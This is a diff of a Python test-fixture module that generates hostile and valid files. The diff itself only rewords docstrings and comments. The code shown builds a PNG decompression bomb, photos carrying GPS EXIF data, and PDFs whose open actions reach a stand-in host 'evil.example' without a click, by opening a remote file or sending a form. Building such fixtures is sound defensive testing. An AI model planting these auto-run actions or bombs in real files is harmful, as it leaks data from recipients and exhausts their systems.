@@ -1,4 +1,4 @@
-"""Files as somebody who means harm, or a program gone wrong, would send them; and honest ones beside them."""
+"""Malicious and broken files, and valid ones to compare."""
 
 import random
 import struct
@@ -34,7 +34,7 @@ def animated(frames: int, size) -> bytes:
 
 
 def png_that_claims(width: int, height: int) -> bytes:
-    """A small file that would be a very large picture."""
+    """A small file that decodes to a very large picture."""
     head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
     return b"\x89PNG\r\n\x1a\n" + b"".join(
         _chunk(*one) for one in ((b"IHDR", head), (b"IDAT", zlib.compress(bytes(99))), (b"IEND", b""))
@@ -46,7 +46,7 @@ def _chunk(name, content) -> bytes:
 
 
 def located(kind="JPEG") -> bytes:
-    """A photograph that says where it was taken, with which telephone, and more."""
+    """A photo with its location, phone model, and other metadata."""
     exif = Image.Exif()
     exif[0x010F] = SECRET.decode()
     exif.get_ifd(0x8825).update({1: "N", 2: (34.0, 3.0, 8.0), 3: "W", 4: (118.0, 14.0, 37.0)})
@@ -76,7 +76,8 @@ def pdf(*, password="", script=False, launch=False, attached=False) -> bytes:
 
 
 def pdf_of(*objects: str, page: str = "") -> bytes:
-    """Written by hand: a page, and `objects` from number 4 on; the root has `/OpenAction 4 0 R`, the page `page`."""
+    """A hand-written PDF: one page, and `objects` from number 4 on. The root has `/OpenAction 4 0 R`, the page
+    `page`."""
     first = (
         "<</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R>>",
         "<</Type /Pages /Kids [3 0 R] /Count 1>>",
@@ -95,7 +96,7 @@ def pdf_of(*objects: str, page: str = "") -> bytes:
 
 GO_TO = "<</S /GoTo /D [3 0 R /Fit]>>"
 LINK = "<</S /URI /URI (https://www.example.org/)>>"
-STARTING = {  # what leaves the document without a click
+STARTING = {  # actions that leave the document without a click
     "a web page to open": pdf_of(LINK),
     "another file to open": pdf_of("<</S /GoToR /F (//evil.example/a.pdf) /D [0 /Fit]>>"),
     "a form that is sent": pdf_of("<</S /SubmitForm /F (https://evil.example/)>>"),
@@ -118,7 +119,7 @@ def action(kind: str, key: str, value: str) -> DictionaryObject:
 
 
 def pdf_only_not_printed() -> bytes:
-    """With a password for its owner; everybody may open it."""
+    """With an owner password; anyone can open it."""
     writer = PdfWriter()
     writer.add_blank_page(200, 200)
     writer.encrypt("", "owner", algorithm="AES-256")
@@ -140,7 +141,7 @@ PARTS = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/pr
 
 
 def package(kind="docx", main="<d/>", content_type="", level=zipfile.ZIP_DEFLATED, **parts) -> bytes:
-    """An Office document of few parts; `parts` by name, with `__` for `/` and `_dot_` for a point."""
+    """An Office document with few parts; `parts` by name, with `__` for `/` and `_dot_` for a point."""
     types = (
         '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         f'<Override PartName="/{PARTS[kind]}" ContentType="{content_type or MAIN[kind]}"/></Types>'
@@ -182,5 +183,5 @@ OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
 
 
 def with_types(xml: str) -> bytes:
-    """A package whose list of types is `xml`."""
+    """A package whose content types list is `xml`."""
     return archive(**{"[Content_Types].xml": xml, "word/document.xml": "<d/>"})
